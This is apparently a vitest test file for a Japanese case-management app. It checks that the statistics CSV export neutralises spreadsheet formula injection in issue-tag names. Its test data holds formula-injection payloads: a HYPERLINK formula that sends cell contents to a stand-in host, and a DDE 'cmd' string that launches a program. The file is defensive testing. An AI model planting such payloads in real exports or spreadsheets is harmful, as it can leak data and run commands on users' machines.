import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { fileOf, xlsxBytes } from '../import/fixtures.js';
import { runImport } from '../import/index.js';
import { addIssueTag } from '../issue-tags.js';
import { serviceCtx } from '../testing/service-context.js';
import { signedInVault } from '../testing/signed-in-vault.js';
import { statisticsFile, statisticsFor } from './index.js';

const now = new Date('2026-05-01T01:00:00Z');

describe('統計の CSV（数式の注入）', () => {
  it("事務所が付けた課題名が = + - @ で始まっても、CSV では「'」付きの文字になり、件数は数のまま", async () => {
    const vault = await signedInVault(() => now);
    try {
      const tags = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", '-1+2', '@SUM(1+1)'];
      for (const tag of tags) await addIssueTag(serviceCtx(vault.db, vault.userId, now), { name: tag });
      const rows = Array.from({ length: 3 }, (_, i) => ({
        受付番号: `F-${i}`,
        受付日: '2025-06-10',
        世帯表示名: `世帯${i}`,
        本人同意: 'あり',
        同意取得日: '2025-06-10',
        課題: tags.join('、'),
      }));
      const report = await runImport(serviceCtx(vault.db, vault.userId, now), {
        files: [fileOf('台帳.xlsx', await xlsxBytes({ 世帯: { rows } }))],
      });
      expect(report.errors).toEqual([]);

      const ctx = serviceCtx(vault.db, vault.userId, now);
      const stats = await statisticsFor(ctx, { fiscalYears: [2025], threshold: 3 });
      const file = await statisticsFile(ctx, stats, 'csv');
      const records: string[][] = parse(file.bytes.subarray(3), { relax_column_count: true });
      for (const tag of tags) expect(records).toContainEqual([`'${tag}`, '3']);
      expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    } finally {
      await vault.close();
    }
  });
});
